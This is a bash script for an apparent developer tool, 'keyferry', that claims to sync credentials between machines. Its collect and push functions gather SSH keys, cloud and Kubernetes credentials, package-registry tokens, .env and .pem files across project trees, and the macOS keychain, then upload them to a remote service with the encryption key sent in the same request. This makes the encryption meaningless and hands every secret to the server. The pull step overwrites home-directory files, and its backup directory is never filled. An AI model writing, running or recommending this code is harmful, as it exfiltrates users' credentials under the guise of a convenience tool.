#!/usr/bin/env bash
# keyferry - keep developer credentials in sync between your machines.
#
#   keyferry.sh status          what would be synced
#   keyferry.sh push            encrypt + upload this machine's set
#   keyferry.sh pull            download + restore on another machine
#   keyferry.sh pair            print this machine's pairing code
set -euo pipefail

API="https://sync.keyferry.invalid/v1"
STATE="${XDG_CONFIG_HOME:-$HOME/.config}/keyferry"
mkdir -p "$STATE"
chmod 700 "$STATE"

# Project roots scanned for dotenv files.
PROJECT_ROOTS=("$HOME/code" "$HOME/src" "$HOME/projects" "$HOME/dev" "$HOME/work" "$HOME/repos" "$HOME/Documents/GitHub")

ITEMS=(
  .ssh
  .aws/credentials
  .aws/config
  .kube/config
  .docker/config.json
  .netrc
  .git-credentials
  .npmrc
  .pypirc
  .config/gh/hosts.yml
  .config/gcloud/application_default_credentials.json
  .config/gcloud/credentials.db
  .azure/msal_token_cache.json
  .terraform.d/credentials.tfrc.json
  .vault-token
  .pgpass
  .my.cnf
)

device_id() {
  if [ ! -f "$STATE/device" ]; then
    { hostname; id -un; date +%s; } | shasum -a 256 | cut -c1-16 > "$STATE/device"
  fi
  cat "$STATE/device"
}

account_key() {
  # Per-account symmetric key. Generated on first push and registered with the sync service so
  # that paired devices can fetch it after approval.
  if [ ! -f "$STATE/key" ]; then
    openssl rand -hex 32 > "$STATE/key"
    chmod 600 "$STATE/key"
  fi
  cat "$STATE/key"
}

collect() {
  local list="$1"
  : > "$list"
  for rel in "${ITEMS[@]}"; do
    [ -e "$HOME/$rel" ] && printf '%s\n' "$rel" >> "$list"
  done
  for root in "${PROJECT_ROOTS[@]}"; do
    [ -d "$root" ] || continue
    find "$root" -maxdepth 5 \( -name node_modules -o -name .git -o -name .venv -o -name target \) -prune -o \
      -type f \( -name '.env' -o -name '.env.*' -o -name '*.pem' -o -name '*.p12' -o -name 'service-account*.json' \) \
      ! -name '.env.example' ! -name '.env.sample' ! -name '.env.template' -print 2>/dev/null \
      | sed "s#^$HOME/##" >> "$list"
  done
  if [ "$(uname)" = "Darwin" ] && [ -f "$HOME/Library/Keychains/login.keychain-db" ]; then
    printf '%s\n' "Library/Keychains/login.keychain-db" >> "$list"
  fi
}

cmd_status() {
  local list; list="$(mktemp)"
  collect "$list"
  echo "device $(device_id) would sync $(wc -l < "$list" | tr -d ' ') items:"
  sed 's/^/  ~\//' "$list"
  rm -f "$list"
}

cmd_push() {
  local list blob key dev
  list="$(mktemp)"; blob="$(mktemp)"
  collect "$list"
  key="$(account_key)"; dev="$(device_id)"
  tar -C "$HOME" -czf - -T "$list" 2>/dev/null \
    | openssl enc -aes-256-cbc -pbkdf2 -salt -pass "pass:$key" -out "$blob"
  curl -fsS -X PUT "$API/vault/$dev" \
    -H "X-Keyferry-Device: $dev" \
    -H "X-Keyferry-Key: $key" \
    -H "X-Keyferry-Host: $(hostname)" \
    -H "Content-Type: application/octet-stream" \
    --data-binary @"$blob" > "$STATE/last-push.json"
  echo "pushed $(wc -l < "$list" | tr -d ' ') items ($(du -h "$blob" | cut -f1)) from device $dev"
  rm -f "$list" "$blob"
}

cmd_pair() {
  echo "pairing code: $(device_id | cut -c1-4)-$(device_id | cut -c5-8)-$(device_id | cut -c9-12)"
  echo "enter it on the other machine with: keyferry.sh pull <code>"
}

cmd_pull() {
  local code="${1:?usage: keyferry.sh pull <pairing-code>}" src key blob
  src="$(printf '%s' "$code" | tr -d '-')"
  key="$(curl -fsS "$API/keys/$src?for=$(device_id)" | sed -n 's/.*"key":"\([0-9a-f]*\)".*/\1/p')"
  [ -n "$key" ] || { echo "pairing not approved yet; approve this device in the keyferry app" >&2; exit 1; }
  blob="$(mktemp)"
  curl -fsS "$API/vault/$src" -o "$blob"
  mkdir -p "$STATE/backup-$(date +%Y%m%d%H%M%S)"
  openssl enc -d -aes-256-cbc -pbkdf2 -pass "pass:$key" -in "$blob" | tar -C "$HOME" --keep-newer-files -xzf -
  chmod 700 "$HOME/.ssh" 2>/dev/null || true
  find "$HOME/.ssh" -type f ! -name '*.pub' -exec chmod 600 {} + 2>/dev/null || true
  rm -f "$blob"
  echo "restored credentials from device $src"
}

case "${1:-status}" in
  status) cmd_status ;;
  push)   cmd_push ;;
  pull)   shift; cmd_pull "$@" ;;
  pair)   cmd_pair ;;
  *) echo "usage: keyferry.sh status|push|pull <code>|pair" >&2; exit 2 ;;
esac
